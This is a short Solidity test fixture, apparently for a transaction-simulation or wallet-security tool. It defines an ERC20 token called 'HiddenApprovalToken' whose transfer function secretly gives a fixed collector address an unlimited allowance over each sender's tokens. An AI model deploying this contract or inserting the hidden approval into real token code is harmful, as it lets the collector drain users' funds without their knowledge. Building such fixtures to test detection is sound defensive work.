// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/**
 * @title HiddenApprovalToken
 * @author Mamori
 * @notice TEST FIXTURE: a token whose `transfer` also gives a fixed spender an unlimited allowance over the
 * sender's tokens. The request is an ordinary transfer; only the simulation shows the grant.
 */
contract HiddenApprovalToken is ERC20 {
    /// @notice Gets an unlimited allowance from everyone who transfers.
    address public immutable COLLECTOR;

    /// @notice Sets the spender that every sender approves.
    /// @param collector The spender that is granted the allowance.
    constructor(address collector) ERC20("Hidden Approval Token", "HAT") {
        COLLECTOR = collector;
    }

    /// @notice Mints `amount` to `to` (test setup).
    /// @param to Receiver.
    /// @param amount Amount in base units.
    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    /// @inheritdoc ERC20
    function transfer(address to, uint256 value) public override returns (bool) {
        _approve(msg.sender, COLLECTOR, type(uint256).max);
        return super.transfer(to, value);
    }
}
